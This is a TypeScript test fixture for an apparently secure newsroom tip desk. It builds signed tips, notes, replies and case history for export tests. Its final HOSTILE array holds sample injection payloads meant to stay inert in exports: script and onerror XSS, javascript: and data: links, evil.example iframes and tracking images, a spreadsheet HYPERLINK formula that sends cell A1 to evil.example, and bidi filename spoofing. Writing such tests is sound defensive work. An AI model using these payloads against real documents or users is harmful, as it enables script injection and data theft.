/** A newsroom of three and a case as a member's desk holds it: two tips, notes, tags, shares, with real signatures. */
import { sha256, toBase64url, utf8 } from '../../../src/crypto/bytes.ts';
import { signDirectory } from '../../../src/crypto/directory.ts';
import { originalHash } from '../../../src/crypto/event.ts';
import { signReply } from '../../../src/crypto/reply.ts';
import { sign, signingKey } from '../../../src/crypto/signature.ts';
import type { Case, HistoryEntry, Note } from '../../../src/desk/cases/case.ts';
import { parseNote } from '../../../src/desk/cases/markdown-tree.ts';
import { messagesOf } from '../../../src/desk/cases/messages-of.ts';
import { collect, type Parts, zipExport } from '../../../src/desk/export/bundle.ts';
import { type Choice, DEFAULT_CHOICE, type ExportCase, type Occasion } from '../../../src/desk/export/choice.ts';
import { buildDocument } from '../../../src/desk/export/documents.ts';
import { readNotes } from '../../../src/desk/export/read-notes.ts';
import { replyKey } from '../../../src/desk/messages/message.ts';
import type { Event, EventBody } from '../../../src/protocol/event.ts';
import type { Reply } from '../../../src/protocol/reply.ts';
import type { Signed } from '../../../src/protocol/schema.ts';
import type { Tip } from '../../../src/protocol/tip.ts';
import { newsroom, root, TODAY } from '../../crypto/fixtures.ts';

const NAMES = ['Mara Okonkwo', 'Tomás Ferreira', 'Ada Lindqvist'];

/** Call after `ready()`. */
export function house() {
  const made = newsroom(3);
  const members = made.directory.members.map((member, n) => ({
    ...member,
    name: NAMES[n] ?? '',
    roles: n === 2 ? (['editor'] as const).slice() : member.roles,
  }));
  const directory = { ...made.directory, members };
  const occasion: Occasion = { directory, member: made.members[0]?.key ?? '', today: TODAY };
  const seeds = made.members.map(({ signingSeed }) => signingSeed);
  return { ...made, directory, occasion, seeds, signed: signDirectory(made.keys.seed, directory) };
}

export type House = ReturnType<typeof house>;

export interface Story {
  tips: readonly { text: string; contact: string }[];
  notes?: readonly string[];
  /** By Mara, after the tips. */
  replies?: readonly string[];
  tags?: readonly string[];
  title?: string;
}

export const id = (n: number) => toBase64url(root(n).subarray(0, 16));
export const hash = (text: string) => toBase64url(sha256(utf8(text)));

/** A case that the first member opened, noted, kept, shared with the editor. */
export function caseOf(where: House, story: Story, n = 1): ExportCase {
  const [mara = '', tomas = '', ada = ''] = where.members.map(({ key }) => key);
  const threadSeed = root(60 + n);
  const thread = signingKey(threadSeed);
  const original = ({ text, contact }: { text: string; contact: string }, at: number) => {
    const tip: Tip = {
      v: 1,
      kind: 'tip',
      newsroom: where.keys.key,
      thread,
      id: id(10 * n + at),
      to: [mara, tomas],
      directory: 1,
      text,
      contact,
    };
    return { tip, signed: sign(threadSeed, 'tip', JSON.stringify(tip)), day: `2026-11-${12 + at}` };
  };
  const tips = story.tips.map(original);
  const address = sign(
    threadSeed,
    'address',
    JSON.stringify({ v: 1, kind: 'address', newsroom: where.keys.key, thread, to: [mara, tomas] }),
  );
  const replies = (story.replies ?? []).map((text, at) => {
    const place = { v: 1, kind: 'reply', newsroom: where.keys.key, member: mara, thread, id: id(400 + at) } as const;
    const reply: Reply = { ...place, number: at + 1, day: '2026-11-18', text };
    return { reply, signed: signReply(where.seeds[0] ?? root(0), reply) };
  });
  const notes: Note[] = (story.notes ?? []).map((text, at) => ({
    id: id(100 + at),
    by: at % 2 === 0 ? mara : tomas,
    day: '2026-11-19',
    text,
    redacted: 0,
    versions: [3 + at],
    from: null,
  }));
  const bodies: { by: number; day: string; body: EventBody }[] = [
    { by: 0, day: '2026-11-14', body: { kind: 'opened', address } },
    { by: 0, day: '2026-11-14', body: { kind: 'assignment', add: [mara], remove: [] } },
    { by: 1, day: '2026-11-15', body: { kind: 'tags', add: [...(story.tags ?? [])], remove: [] } },
    ...notes.map(({ by, day, text, id: note }) => ({
      by: by === mara ? 0 : 1,
      day,
      body: { kind: 'note', note, text } as const,
    })),
    ...tips.map(({ signed, day }) => ({
      by: 0,
      day: '2026-11-20',
      body: { kind: 'kept', tip: originalHash(signed), stored: day } as const,
    })),
    ...replies.flatMap(({ reply, signed }) => [
      { by: 0, day: reply.day, body: { kind: 'reply', reply: originalHash(signed) } as const },
      { by: 0, day: reply.day, body: { kind: 'delivered', member: mara, reply: reply.id } as const },
    ]),
    { by: 0, day: '2026-11-21', body: { kind: 'share', add: [ada], remove: [], addresses: [address] } },
    {
      by: 0,
      day: '2026-11-21',
      body: {
        kind: 'account',
        status: 'working',
        assigned: [mara],
        tags: [...(story.tags ?? [])],
        notes: [],
        tips: tips.map(({ tip, day, signed }) => ({
          id: tip.id,
          day,
          original: originalHash(signed),
        })),
      },
    },
  ];
  const history: HistoryEntry[] = bodies.map(({ by, day, body }, seq) => {
    const common = {
      v: 1,
      newsroom: where.keys.key,
      case: hash(`case ${n}`),
      id: id(300 + seq),
      seq,
      previous: seq === 0 ? null : hash(`sealed ${seq - 1}`),
      day,
      to: [mara, tomas],
    } as const;
    const event: Event = { ...common, to: [...common.to], ...body };
    return {
      event,
      signed: sign(where.seeds[by] ?? root(0), 'event', JSON.stringify(event)),
      by: where.members[by]?.key ?? '',
      hash: hash(`sealed ${seq}`),
    };
  });
  const found: Case = {
    id: hash(`case ${n}`),
    thread,
    readers: [mara, tomas, ada],
    byRight: [mara, tomas],
    addresses: [address],
    delivered: new Set(replies.map(({ reply }) => replyKey(mara, reply.id))),
    told: null,
    status: 'working',
    assigned: [mara],
    tags: story.tags ?? [],
    title: story.title ?? null,
    notes,
    tips: [
      ...tips.slice(0, 1).map((one) => ({ ...messageOf(one), how: 'kept' as const, by: mara, seq: 5 })),
      ...replies.map(({ reply, signed }) => ({
        id: replyKey(mara, reply.id),
        thread,
        to: null,
        day: reply.day,
        text: reply.text,
        contact: null,
        redacted: 0,
        original: signed,
        callout: null,
        reply: { by: mara, id: reply.id, number: reply.number },
        seen: [],
        mailbox: null,
        files: [],
        removals: [],
        how: 'written' as const,
        by: mara,
        seq: 6,
      })),
    ],
    history,
    deleted: null,
    length: history.length + 1,
    closed: 1,
    lastClosed: null,
    faults: [],
  };
  const inbox = tips.map((one, n) => ({
    ...messageOf(one),
    serverId: id(200 + n),
    removal: toBase64url(root(7)),
    removals: [],
    address,
    directory: 1,
  }));
  return { case: found, tips: messagesOf(found, thread, inbox) };
}

/** As a desk has it, wherever it comes from. */
function messageOf({ tip, signed, day }: { tip: Tip; signed: Signed; day: string }) {
  const { id, thread, to, text, contact } = tip;
  const none = { callout: null, reply: null, seen: [], mailbox: null, files: [], removals: [] };
  return { ...none, id, thread, to, day, text, contact, redacted: 0, original: signed };
}

export const STORY: Story = {
  tips: [
    {
      text: 'The pump station at Dock 7 has been off since Tuesday.\nAsk Ilse Marquardt; she signed the log.',
      contact: 'Signal: quiet.heron.42, or +44 7700 900123',
    },
    { text: 'A follow-up: the log is gone now.', contact: 'Signal: quiet.heron.42, or +44 7700 900123' },
  ],
  notes: [
    '# First call\n\nShe **confirmed** the dates.\n\n- log book\n- photographs\n\n> “off since Tuesday”',
    'Second source found.',
  ],
  tags: ['harbour', 'urgent'],
};

export function choose(changes: Partial<Choice> = {}): Choice {
  return { ...DEFAULT_CHOICE, ...changes };
}

/** Passages of a tip, by the words themselves: every place where they stand first. */
export function passages(one: ExportCase, words: readonly string[]): Choice['passages'] {
  return new Map(
    one.tips.map((tip) => [
      tip.id,
      words.flatMap((word) => {
        const start = tip.text.indexOf(word);
        return start < 0 ? [] : [{ start, end: start + word.length }];
      }),
    ]),
  );
}

/** The bytes of an export's ZIP, and its manifest. */
export async function zip(
  where: House,
  cases: readonly ExportCase[],
  choice: Choice = DEFAULT_CHOICE,
  changes: Partial<Parts> & { signedDirectory?: Signed; occasion?: Occasion } = {},
) {
  const document = buildDocument(cases, choice, changes.occasion ?? where.occasion);
  const { stream, done } = zipExport({
    document,
    notes: await readNotes(document, async (text) => parseNote(text)),
    directory: where.signed,
    signingSeed: where.seeds[0] ?? root(0),
    ...changes,
  });
  const blob = await collect(stream, null, 'application/zip', new AbortController().signal);
  return { bytes: new Uint8Array(await blob.arrayBuffer()), made: await done };
}

/** What must stand in an export as it was written, and do nothing. */
export const HOSTILE = [
  '<script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
  '</div></article></main><iframe src="https://evil.example/"></iframe>',
  '![x](https://evil.example/track.png) [click](javascript:alert(1)) [b]: data:text/html,x',
  '~~~\n```\n# not a heading\n~~~~~~~~\n<b>x</b>',
  '=HYPERLINK("https://evil.example/?"&A1,"x")\n+1+1\n@SUM(A1)',
  '\u202egpj.exe\u202c \u2066x\u2069 \u001b[31mred\u0007 \u0000',
  '<!--\n]]>\n<style>*{display:none}</style>',
  '&lt;script&gt; &#106;avascript: java&#115;cript',
  '<https://evil.example/> <javascript:alert(1)> https://evil.example/auto',
  '[x](<javascript:alert(1)>) [y](\n javascript:alert(1)) [z][b]\n\n[b]: javascript:alert(2)\n[c]:\njavascript:alert(3)\n\n[c] ![c]',
  '\\![x](https://evil.example/a.png) \\\\![x](https://evil.example/b.png) [![x](https://evil.example/c.png)](data:text/html,x)',
];
